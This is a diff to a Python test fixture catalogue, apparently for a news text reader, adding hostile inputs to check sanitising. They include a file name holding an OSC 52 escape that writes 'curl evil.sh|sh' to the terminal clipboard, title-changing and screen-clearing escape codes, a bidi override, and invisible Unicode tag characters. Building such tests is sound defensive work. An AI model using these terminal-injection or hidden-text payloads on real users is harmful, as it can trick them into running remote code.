@@ -393,6 +393,55 @@ MHTML_NO_BOUNDARY = (
 )
 
 
+# ---------------------------------------------------------------- issue 14: not article text, deep, odd
+
+# A file name carrying OSC 52 (write "curl evil.sh|sh" to the terminal's clipboard) and OSC 0 (set
+# the window title): harmless only if every display and export cleans it.
+ESCAPES_NAME = f"b{ESC}]52;c;Y3VybCBldmlsLnNofHNo\x07{ESC}]0;pwned\x07.html"
+# A page without <title> or <h1>: the path stands in for the title in the reader and the exports.
+TITLELESS_HTML = (
+    b"<!doctype html><html><body><article>"
+    b"<div class='block'><time datetime='2024-05-01T10:00:00Z'>10:00</time><p>One update from the Kremlin.</p></div>"
+    b"<div class='block'><time datetime='2024-05-01T09:00:00Z'>09:00</time><p>Two updates.</p></div>"
+    b"</article></body></html>"
+)
+HOSTILE_TOPIC = f"Evil{ESC}]0;pwned\x07 {ESC}[31mRed\u202e topic"
+# Every invisible character the cleaning removes or turns into a newline (finding 11).
+INVISIBLES_TEXT = timed_text((
+    "Line\u2028separator and paragraph\u2029separator",
+    "Lav\u200brov, Lav\u00adrov, Lav\u2060rov and Lav\u200drov said so",
+    "Marks \u200eleft\u200f right \u061c and \u180e Mongolian",
+    "Visible\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 text and a flag \U0001f3f4\U000e0067\U000e0062"
+    "\U000e0065\U000e006e\U000e0067\U000e007f",
+    "Annotation \ufff9base\ufffaruby\ufffb end",
+))
+
+
+def _escapes_filename(folder: Path) -> Path:
+    path = folder / ESCAPES_NAME
+    path.write_bytes(TITLELESS_HTML)
+    return path
+
+
+def _escapes_topic_name(folder: Path) -> Path:
+    def toml_string(text: str) -> str:
+        return '"' + "".join(c if c.isprintable() else f"\\u{ord(c):04x}" for c in text) + '"'
+
+    (folder / "topics.toml").write_text(
+        f'[topics.{toml_string(HOSTILE_TOPIC)}]\ninclude = ["Kremlin", {toml_string("cyber" + ESC + "[2J")}]\n',
+        encoding="utf-8",
+    )
+    path = folder / "kremlin.txt"
+    path.write_text(timed_text(("The Kremlin denied it.",)), encoding="utf-8")
+    return path
+
+
+def _non_utf8_filename(folder: Path) -> Path:
+    path = Path(os.fsdecode(os.path.join(os.fsencode(folder), b"caf\xe9.txt")))
+    path.write_text(timed_text(), encoding="utf-8")
+    return path
+
+
 # ---------------------------------------------------------------- the catalogue
 
 
@@ -500,6 +549,14 @@ def _cat() -> list[BadInput]:
                  "either", needs="html"),
         BadInput("mhtml-no-boundary", "MHTML header without a boundary", _write("nob.mhtml", MHTML_NO_BOUNDARY),
                  "either", needs="html"),
+        # Issue 14 (round two): what is not article text, deep and odd inputs.
+        BadInput("escapes-filename", "title-less page whose file name holds OSC 52 (clipboard) and OSC 0 (title)",
+                 _escapes_filename, "ok", needs="html"),
+        BadInput("escapes-topic-name", "topics file naming a topic (and a term) with escape codes",
+                 _escapes_topic_name, "ok", args=("--topics", "{dir}/topics.toml")),
+        BadInput("non-utf8-filename", "a file named caf\\xe9.txt (not UTF-8)", _non_utf8_filename, "ok"),
+        BadInput("unicode-invisibles", "U+2028/U+2029, zero-width characters, bidi marks, soft hyphens, tags",
+                 _write("invisible.txt", INVISIBLES_TEXT.encode()), "ok"),
     ]
 
 
